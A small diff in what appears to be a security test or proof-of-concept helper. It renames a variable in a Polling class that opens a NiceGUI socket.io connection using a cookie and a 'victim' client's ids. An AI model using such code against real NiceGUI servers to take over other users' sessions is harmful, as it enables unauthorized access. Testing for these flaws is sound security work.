@@ -36,9 +36,9 @@ class Polling:
 
     def __init__(self, server: Server, victim: Client, cookie: str, implicit: str, **headers: str) -> None:
         self._server, self._headers = server, {"Cookie": cookie, **headers}
-        asked = {"client_id": victim.id, "tab_id": victim.id, "document_id": victim.id, "next_message_id": 0}
+        ids = {"client_id": victim.id, "tab_id": victim.id, "document_id": victim.id, "next_message_id": 0}
         self._path = f"/_nicegui_ws/socket.io/?{urlencode({'EIO': 4, 'transport': 'polling'})}"
-        more = urlencode({**asked, "implicit_handshake": implicit}) if implicit else ""
+        more = urlencode({**ids, "implicit_handshake": implicit}) if implicit else ""
         self.status, _, opened = ask(server, "GET", f"{self._path}&{more}", self._headers)
         self.sid = json.loads(opened[1:])["sid"] if self.status == 200 else ""
 
